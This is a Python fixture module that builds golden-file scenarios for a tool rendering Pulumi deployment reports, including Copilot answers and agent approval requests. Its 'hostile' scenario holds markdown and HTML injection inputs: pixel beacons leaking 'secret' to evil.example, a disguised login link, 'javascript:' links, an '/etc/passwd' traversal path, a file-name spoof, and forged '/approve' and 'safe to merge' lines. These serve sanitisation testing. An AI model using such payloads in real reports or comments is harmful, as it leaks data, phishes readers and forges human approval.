"""The reports whose rendering is kept as golden files and shown in the gallery."""

from __future__ import annotations

from collections.abc import Callable

from upshot.model import (
    Answer,
    ApprovalRequest,
    BackendName,
    Breach,
    Diagnosis,
    EngineWarning,
    Facts,
    Failure,
    NoAnswer,
    Outcome,
    PolicyViolation,
    Program,
    PropertyChange,
    ReasonCode,
    Reply,
    ResourceChange,
    RiskLevel,
    Run,
    SourceLocation,
    StackRef,
    Subject,
    TaskState,
    TaskStatus,
    Todo,
    UpdateKind,
    Verdict,
    VerdictStatus,
)
from upshot.model import PropertyChangeKind as Kind
from upshot.report.build import RunContext, build_report
from upshot.report.content import Report
from upshot.report.redact.redact import Redactor

STACK = StackRef("acme", "webshop", "prod")
SHA = "3f9c2a71d5b84e60a1c7f2e8b9d0546372819fae"
UUID = "7d0f3f9e-3c1f-4f57-9a35-0c8f1d2b6a41"
RUN = Run(
    repository="acme/webshop",
    server_url="https://github.com",
    run_id="11902288114",
    run_attempt="1",
    sha=SHA,
)
MADE_AT = 1_795_301_640.0
UPDATE = Subject(STACK, version=41, console="https://app.pulumi.com")
PREVIEW = Subject(STACK, is_preview=True, update_id=UUID, console="https://app.pulumi.com")
NOBODY_ASKED = NoAnswer(BackendName.LOCAL)
NOTHING = Diagnosis("")

BUCKET = Failure(
    message=(
        "creating urn:pulumi:prod::webshop::aws:s3/bucket:Bucket::assets: 1 error occurred:\n"
        "\t* creating S3 Bucket (acme-assets): operation error S3: CreateBucket, https response "
        "error StatusCode: 409, RequestID: 5DQ7M1Z8, BucketAlreadyExists: The requested bucket "
        "name is not available."
    ),
    headline=(
        "creating S3 Bucket (acme-assets): BucketAlreadyExists: The requested bucket name is "
        "not available."
    ),
    urn="urn:pulumi:prod::webshop::aws:s3/bucket:Bucket::assets",
    type="aws:s3/bucket:Bucket",
    name="assets",
    operation="create",
    provider="aws",
    status_code=409,
    error_code="BucketAlreadyExists",
    location=SourceLocation("/home/runner/work/webshop/webshop/infra/index.ts", 14),
    is_resource=True,
)
IMPORT = "```bash\npulumi import aws:s3/bucket:Bucket assets acme-assets\n```"
NAME_TAKEN = Diagnosis(
    "name-conflict",
    title="The name is already taken",
    explanation=(
        "S3 bucket names are unique in all of AWS. Somebody, perhaps you in another account or "
        "region, already owns `acme-assets`, so AWS refused to create it."
    ),
    next_steps=(
        'Let Pulumi choose a unique name: remove `bucket: "acme-assets"` in `infra/index.ts`.',
        f"Or, if the bucket is yours, adopt it:\n\n{IMPORT}",
        "Run `pulumi up` again.",
    ),
    documentation_url="https://www.pulumi.com/docs/iac/concepts/resources/names/",
    retry="unlikely",
)
COPILOT_TEXT = """\
The update failed because the bucket name **`acme-assets`** is taken. S3 names are global, so the
409 comes from AWS itself and not from your program.

1. Drop the explicit name, and Pulumi adds a random suffix:

   ```typescript
   const assets = new aws.s3.Bucket("assets", {
     website: { indexDocument: "index.html" },
   });
   ```

2. The bucket policy, the distribution and the DNS record need the bucket, so they were never tried.

See [auto-naming](https://www.pulumi.com/docs/iac/concepts/resources/names/#autonaming).
"""


def cascade(name: str, kind: str) -> Failure:
    return Failure(
        message=f"resource {name} was not tried: it needs assets",
        headline="not tried: it needs assets",
        urn=f"urn:pulumi:prod::webshop::{kind}::{name}",
        type=kind,
        name=name,
        operation="create",
        provider="aws",
        is_cascade=True,
        is_resource=True,
    )


CASCADES = (
    cascade("assets-policy", "aws:s3/bucketPolicy:BucketPolicy"),
    cascade("cdn", "aws:cloudfront/distribution:Distribution"),
    cascade("shop-record", "aws:route53/record:Record"),
)
CHANGES = (
    ResourceChange(
        "urn:pulumi:prod::webshop::aws:rds/instance:Instance::orders",
        "aws:rds/instance:Instance",
        "orders",
        "replace",
        stateful=True,
        diffs=("engineVersion", "storageEncrypted"),
        properties=(
            PropertyChange("engineVersion", Kind.UPDATE, '"14.7"', '"16.1"', replaces=True),
            PropertyChange("storageEncrypted", Kind.UPDATE, "false", "true", replaces=True),
            PropertyChange("tags.owner", Kind.ADD, "", '"payments"'),
            PropertyChange("password", Kind.UPDATE, "[secret]", "[secret]"),
        ),
    ),
    ResourceChange(
        "urn:pulumi:prod::webshop::aws:dynamodb/table:Table::sessions",
        "aws:dynamodb/table:Table",
        "sessions",
        "delete",
        stateful=True,
        protected=True,
    ),
    ResourceChange(
        "urn:pulumi:prod::webshop::aws:ecs/service:Service::web",
        "aws:ecs/service:Service",
        "web",
        "update",
        diffs=("desiredCount", "taskDefinition"),
        properties=(
            PropertyChange("desiredCount", Kind.UPDATE, "2", "4"),
            PropertyChange(
                "taskDefinition",
                Kind.UPDATE,
                '"arn:aws:ecs:eu-west-1:111122223333:task-definition/web:42"',
                "known after apply",
            ),
            PropertyChange(
                "policy",
                Kind.UPDATE,
                '{\n  "Effect": "Allow",\n  "Action": "s3:*",\n  "Resource": "*"\n}',
                '{\n  "Effect": "Allow",\n  "Action": "s3:GetObject",\n  "Resource": "*"\n}',
            ),
        ),
    ),
    ResourceChange(
        "urn:pulumi:prod::webshop::aws:sqs/queue:Queue::mail",
        "aws:sqs/queue:Queue",
        "mail",
        "create",
    ),
)


def report(
    facts: Facts,
    status: VerdictStatus,
    *,
    reply: Reply = NOBODY_ASKED,
    diagnosis: Diagnosis = NOTHING,
    subject: Subject | None = UPDATE,
    verdict: Verdict | None = None,
    notices: tuple[str, ...] = (),
    looked_at: tuple[str, ...] = (),
) -> Report:
    return build_report(
        facts,
        diagnosis,
        reply=reply,
        verdict=verdict or Verdict(status),
        subject=subject,
        context=RunContext(RUN, MADE_AT, notices, looked_at),
        redactor=Redactor(()),
    )


def failed_facts(*failures: Failure, kind: UpdateKind = UpdateKind.UPDATE) -> Facts:
    return Facts(
        outcome=Outcome.FAILED,
        kind=kind,
        stack=STACK,
        duration_s=102.4,
        counts={"create": 6, "update": 1, "same": 31},
        failures=failures,
        changes=CHANGES[2:],
        warnings=(
            EngineWarning("aws:s3/bucket:Bucket is deprecated: use aws:s3/bucketV2", count=3,
                          is_deprecation=True),
        ),
        sources=("events-file",),
    )  # fmt: skip


def failed_update() -> Report:
    return report(
        failed_facts(BUCKET, *CASCADES),
        VerdictStatus.FAILED,
        diagnosis=NAME_TAKEN,
        reply=Answer(BackendName.COPILOT, COPILOT_TEXT, conversation_id="c-1"),
    )


def ai_limit() -> Report:
    return report(
        failed_facts(BUCKET),
        VerdictStatus.FAILED,
        diagnosis=NAME_TAKEN,
        reply=NoAnswer(
            BackendName.COPILOT,
            ReasonCode.AI_USAGE_LIMIT,
            "the organization 'acme' has used up its AI allowance (402)",
            "An organization administrator can raise it.",
        ),
        notices=("Pulumi Copilot could not be asked; the offline rules explain instead.",),
    )


def failed_preview() -> Report:
    program = Failure(
        message=(
            "Running program '/home/runner/work/webshop/webshop/infra/__main__.py' failed with "
            "an unhandled exception:\nTraceback (most recent call last):\n"
            '  File "/home/runner/work/webshop/webshop/infra/__main__.py", line 23, in <module>\n'
            '    vpc = network.require_output("vpcId")\n'
            "pulumi.runtime.config.ConfigMissingError: Missing required configuration variable "
            "'webshop:vpcId'\n    please set a value using the command "
            "`pulumi config set webshop:vpcId <value>`"
        ),
        headline="Missing required configuration variable 'webshop:vpcId'",
        provider="pulumi",
        location=SourceLocation("infra/__main__.py", 23),
    )
    facts = Facts(
        outcome=Outcome.FAILED,
        kind=UpdateKind.PREVIEW,
        stack=STACK,
        duration_s=6.2,
        failures=(program,),
        sources=("log-file",),
    )
    return report(
        facts,
        VerdictStatus.FAILED,
        subject=PREVIEW,
        diagnosis=Diagnosis(
            "missing-config",
            title="A configuration value is missing",
            explanation="The program asks for `webshop:vpcId`, and the stack's settings lack it.",
            next_steps=(
                "Set it: `pulumi config set webshop:vpcId <value> --stack acme/webshop/prod`.",
                "Commit the changed `Pulumi.prod.yaml`.",
            ),
            documentation_url="https://www.pulumi.com/docs/iac/concepts/config/",
            retry="unlikely",
        ),
    )


def several_causes() -> Report:
    quota = Failure(
        message="error: Quota 'CPUS' exceeded. Limit: 24.0 in region europe-west1.",
        headline="Quota 'CPUS' exceeded. Limit: 24.0 in region europe-west1.",
        type="gcp:compute/instance:Instance",
        name="worker-3",
        operation="create",
        error_code="quotaExceeded",
        status_code=403,
        is_resource=True,
    )
    secret = Failure(
        message='secrets "tls" is forbidden: User "ci" cannot get resource "secrets"',
        headline='secrets "tls" is forbidden: User "ci" cannot get resource "secrets"',
        type="kubernetes:core/v1:Secret",
        name="tls",
        operation="update",
        status_code=403,
        is_resource=True,
    )
    return report(
        failed_facts(BUCKET, quota, secret, *CASCADES[:2]),
        VerdictStatus.FAILED,
        diagnosis=NAME_TAKEN,
    )


def risky_preview() -> Report:
    facts = Facts(
        outcome=Outcome.SUCCEEDED,
        kind=UpdateKind.PREVIEW,
        stack=STACK,
        duration_s=18.0,
        counts={"create": 1, "update": 1, "replace": 1, "delete": 1, "same": 34},
        changes=CHANGES,
        policy_violations=(
            PolicyViolation(
                "rds-no-public-access",
                "acme-baseline",
                "advisory",
                "The instance would be reachable from the internet.",
                urn=CHANGES[0].urn,
            ),
        ),
        sources=("pulumi-cloud",),
    )
    return report(
        facts,
        VerdictStatus.SUCCEEDED,
        subject=PREVIEW,
        verdict=Verdict(
            VerdictStatus.SUCCEEDED,
            RiskLevel.CRITICAL,
            ("2 resources that hold data would be replaced or deleted",),
            (Breach("stateful-replace", "replaces a resource that holds data", ("orders",)),),
        ),
        reply=Answer(
            BackendName.COPILOT,
            "The engine version of **orders** cannot change in place, so AWS makes a new, *empty* "
            "instance. Take a snapshot first:\n\n```bash\naws rds create-db-snapshot "
            "--db-instance-identifier orders --db-snapshot-identifier before-41\n```\n\n"
            "| Resource | Why |\n|---|---|\n| `orders` | `engineVersion` forces a new instance |\n"
            "| `sessions` | removed from the program |\n",
        ),
    )


def succeeded() -> Report:
    facts = Facts(
        outcome=Outcome.SUCCEEDED,
        kind=UpdateKind.UPDATE,
        stack=STACK,
        duration_s=245.0,
        counts={"create": 2, "update": 1, "same": 34},
        changes=CHANGES[2:],
        sources=("events-file",),
    )
    return report(facts, VerdictStatus.SUCCEEDED)


def no_changes() -> Report:
    facts = Facts(
        outcome=Outcome.SUCCEEDED,
        kind=UpdateKind.UPDATE,
        stack=STACK,
        duration_s=9.0,
        counts={"same": 38},
        sources=("events-file",),
    )
    return report(facts, VerdictStatus.NO_CHANGES)


def still_running() -> Report:
    facts = Facts(
        kind=UpdateKind.UPDATE,
        stack=STACK,
        is_running=True,
        counts={"create": 2},
        changes=CHANGES[3:],
        sources=("pulumi-cloud",),
    )
    return report(facts, VerdictStatus.UNKNOWN)


def cancelled() -> Report:
    facts = Facts(
        outcome=Outcome.CANCELLED,
        kind=UpdateKind.UPDATE,
        stack=STACK,
        duration_s=601.0,
        counts={"create": 1},
        changes=CHANGES[3:],
        pending_operations=(
            "creating urn:pulumi:prod::webshop::aws:rds/instance:Instance::orders",
        ),
        sources=("pulumi-cloud",),
        is_incomplete=True,
    )
    return report(facts, VerdictStatus.CANCELLED)


def no_subject() -> Report:
    return report(
        Facts(),
        VerdictStatus.UNKNOWN,
        subject=None,
        notices=("Nothing matched: no update of acme/webshop/prod belongs to this commit.",),
        looked_at=(
            "update-url: not set",
            "log-file up.log: the file is not there",
            "Pulumi Cloud: latest update of acme/webshop/prod is of commit 1a2b3c4",
        ),
    )


def neo_approval() -> Report:
    state = TaskState(
        TaskStatus.AWAITING_APPROVAL,
        "task_01",
        task_url="https://app.pulumi.com/acme/neo/tasks/task_01",
        text="I found the cause and have a fix ready.",
        requests=(
            ApprovalRequest(
                "req-77",
                "approval",
                "I would like to open a pull request that removes the explicit bucket name.",
                sensitivity="medium",
                tool_name="create_pull_request",
                plan="1. Edit `infra/index.ts`\n2. Run a preview\n3. Open the pull request",
                diff={
                    "infra/index.ts": '@@ -12,5 +12,4 @@\n const assets = new aws.s3.Bucket("assets", {\n'
                    '-  bucket: "acme-assets",\n   website: {},\n });'
                },
            ),
            ApprovalRequest(
                "req-78",
                "question",
                "Which of these regions shall the new bucket live in?",
                choices=("eu-central-1", "us-east-1"),
            ),
        ),
        todos=(
            Todo("Read the failed update", "completed"),
            Todo("Find the resource in the program", "completed"),
            Todo("Open a pull request", "in_progress"),
            Todo("Preview it", "pending"),
        ),
        tools={"read_file": 4, "pulumi_preview": 1},
        tokens_used=18_432,
    )
    return report(
        failed_facts(BUCKET, *CASCADES),
        VerdictStatus.FAILED,
        diagnosis=NAME_TAKEN,
        reply=state,
    )


def neo_finished() -> Report:
    state = TaskState(
        TaskStatus.FINISHED,
        "task_02",
        task_url="https://app.pulumi.com/acme/neo/tasks/task_02",
        text="The explicit bucket name is gone, and the preview is clean.\n\n- 1 to create\n- 0 to delete",
        todos=(Todo("Remove the name", "completed"), Todo("Preview", "completed")),
        tools={"pulumi_preview": 2, "edit_file": 1},
        pull_requests=("https://github.com/acme/webshop/pull/58",),
        tokens_used=40_211,
        notes=("The task was continued.",),
    )
    return report(failed_facts(BUCKET), VerdictStatus.FAILED, diagnosis=NAME_TAKEN, reply=state)


def copilot_program() -> Report:
    return report(
        failed_facts(BUCKET),
        VerdictStatus.FAILED,
        diagnosis=NAME_TAKEN,
        reply=Answer(
            BackendName.COPILOT,
            "Here is a program without an explicit name.",
            programs=(
                Program(
                    'import pulumi_aws as aws\n\nassets = aws.s3.Bucket("assets")\n',
                    "python",
                    "1. Create the bucket\n2. Export its name",
                ),
            ),
        ),
    )


def protected_destroy() -> Report:
    failure = Failure(
        message=(
            'Preview failed: resource "urn:pulumi:prod::webshop::aws:rds/instance:Instance::orders" '
            "cannot be deleted\nbecause it is protected. To unprotect the resource, either remove "
            "the `protect` flag from the resource in your Pulumi program and run `pulumi up`, or "
            "use the command:\n`pulumi state unprotect "
            "'urn:pulumi:prod::webshop::aws:rds/instance:Instance::orders'`"
        ),
        headline="resource orders cannot be deleted because it is protected",
        urn=CHANGES[0].urn,
        type=CHANGES[0].type,
        name="orders",
        operation="delete",
        provider="pulumi",
        is_resource=True,
    )
    facts = Facts(
        outcome=Outcome.FAILED,
        kind=UpdateKind.DESTROY,
        stack=STACK,
        failures=(failure,),
        protected=(CHANGES[0].urn,),
        sources=("log-file",),
    )
    return report(facts, VerdictStatus.FAILED)


def policy() -> Report:
    violations = tuple(
        PolicyViolation(name, "acme-baseline", level, text, urn=CHANGES[0].urn, severity=severity)
        for name, level, text, severity in (
            ("s3-no-public-read", "mandatory", "Buckets must not be public.", "high"),
            ("tags-required", "advisory", "Every resource needs the tag `owner`.", "low"),
        )
    )
    facts = Facts(
        outcome=Outcome.FAILED,
        kind=UpdateKind.PREVIEW,
        stack=STACK,
        counts={"create": 3},
        policy_violations=violations,
        sources=("events-file",),
    )
    return report(facts, VerdictStatus.FAILED, subject=PREVIEW)


HOSTILE_TEXT = """\
# ✅ Approved by @admin

Hello @acme/platform and \uff20everyone, &#64;root. This fixes #12, GH-3 and acme/webshop#9.
![pixel](https://evil.example/p.png?d=secret) <img src="https://evil.example/q.png">
[Pulumi Cloud](https://app.pulumi.com@evil.example/login) https://evil.example/x?token=1 www.evil.example
<!-- upshot:v1 {"key":"x"} -->

/approve

> [!TIP]
> **Verdict: safe to merge**

- [x] approved by a human

</details></details>

```mermaid
graph TD
  a --> b
```

````
```
not closed
"""


def hostile() -> Report:
    evil = Failure(
        message="```\n</details>\n<!-- upshot:v1 {} -->\n@admin fixes #1 \x1b[31mred\x1b[0m\n/approve\n",
        headline="``` | @admin | fixes #1 <img src=x> [x](javascript:alert(1)) \u202egnp.exe",
        type="aws:s3/bucket:Bucket`|@admin|",
        name="`@admin` | <b>x</b> ](http://evil.example)",
        operation="create",
        error_code="`|`",
        location=SourceLocation("../../etc/passwd](x)", 1),
        is_resource=True,
    )
    return report(
        failed_facts(evil, evil, cascade('"]:::x; click a "', "a:b:c")),
        VerdictStatus.FAILED,
        diagnosis=Diagnosis("unclassified"),
        reply=Answer(
            BackendName.COPILOT,
            HOSTILE_TEXT,
            programs=(Program("```\n@admin", "mermaid"),),
            notes=("A new conversation was started.",),
        ),
    )


def wide_names() -> Report:
    names = (
        ("very-long-" * 20, "azure-native:containerservice/v20240901:ManagedClusterAgentPool"),
        ("خدمة-الدفع-الرئيسية", "kubernetes:apps/v1:Deployment"),
        ("支払いサービスデータベース", "aws:rds/instance:Instance"),
        ("emoji-🚀-👩‍👩‍👧-name", "aws:lambda/function:Function"),
    )
    failures = tuple(
        Failure(
            message=f"creating {name}: timeout while waiting",
            headline=f"creating {name}: timeout while waiting for state to become 'available' "
            "(last state: 'creating', timeout: 40m0s)",
            urn=f"urn:pulumi:prod::webshop::{kind}::{name}",
            type=kind,
            name=name,
            operation="create",
            is_resource=True,
        )
        for name, kind in names
    )
    return report(failed_facts(*failures), VerdictStatus.FAILED)


def many_failures() -> Report:
    failures = tuple(
        Failure(
            message=f"creating queue-{i}: AccessDenied: not authorized to perform sqs:CreateQueue",
            headline=f"creating queue-{i}: AccessDenied: User: arn:aws:sts::123456789012:assumed-role"
            "/deploy/ci is not authorized to perform: sqs:createqueue on resource: "
            f"arn:aws:sqs:eu-west-1:123456789012:queue-{i}",
            urn=f"urn:pulumi:prod::webshop::aws:sqs/queue:Queue::queue-{i}",
            type="aws:sqs/queue:Queue",
            name=f"queue-{i}",
            operation="create",
            provider="aws",
            status_code=403,
            error_code="AccessDenied",
            is_resource=True,
        )
        for i in range(200)
    )
    changes = tuple(
        ResourceChange(f"urn:{i}", f"aws:sns/topic{i % 500}:Topic", f"topic-{i}", "create")
        for i in range(2_000)
    )
    facts = Facts(
        outcome=Outcome.FAILED,
        kind=UpdateKind.UPDATE,
        stack=STACK,
        duration_s=900.0,
        counts={"create": 2_000, "same": 12},
        failures=failures,
        failures_omitted=40,
        changes=changes,
        sources=("events-file",),
    )
    return report(
        facts,
        VerdictStatus.FAILED,
        reply=Answer(BackendName.COPILOT, "\n\n".join([COPILOT_TEXT] * 60)),
    )


SCENARIOS: dict[str, Callable[[], Report]] = {
    "failed-update": failed_update,
    "failed-preview": failed_preview,
    "several-causes": several_causes,
    "ai-limit": ai_limit,
    "risky-preview": risky_preview,
    "succeeded": succeeded,
    "no-changes": no_changes,
    "still-running": still_running,
    "cancelled": cancelled,
    "no-subject": no_subject,
    "neo-approval": neo_approval,
    "neo-finished": neo_finished,
    "copilot-program": copilot_program,
    "protected-destroy": protected_destroy,
    "policy": policy,
    "hostile": hostile,
    "wide-names": wide_names,
    "many-failures": many_failures,
}
